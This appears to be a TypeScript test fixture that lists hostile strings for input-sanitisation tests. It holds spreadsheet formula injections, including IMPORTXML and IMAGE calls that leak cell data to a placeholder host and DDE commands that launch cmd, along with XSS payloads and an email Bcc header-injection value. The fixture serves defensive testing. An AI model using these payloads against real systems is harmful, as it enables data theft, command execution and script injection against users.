// Texts that somebody may type into any field, each meant to become something else: a formula, markup, a header, a tag.

export const formulas = [
  '=1+1',
  '+52 33 1234 5678',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=HYPERLINK("https://malo.example","Premio")',
  '=IMPORTXML("https://malo.example/?q="&A1,"//a")',
  '=IMAGE("https://malo.example/"&A1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '{=1+1}',
  '\u200b=1+1',
  '2026-11-20',
  'TRUE',
  '1e9',
] as const;

export const markups = [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '<!--<script>',
  '<img src=x onerror=alert(3)>',
  '"><svg onload=alert(4)>',
  "' onmouseover='alert(5)",
  '<?!= 7*7 ?>',
  '{{institucion}} {#sesiones}{/sesiones}',
  '&lt;b&gt;negra&lt;/b&gt;',
  'javascript:alert(6)',
] as const;

export const writings = [
  'Ana\r\nBcc: malo@malo.example',
  'Lucía 👩🏽‍🌾🎉 ñandú',
  'مرحبا \u202eabc\u202c שלום',
  'a\u200bb\u2060c\ufeffd',
  'e\u0301 Z\u0335\u0321\u0327',
  '\u0000\u0007\u000b control',
] as const;

export const hostileTexts: readonly string[] = [...formulas, ...markups, ...writings];
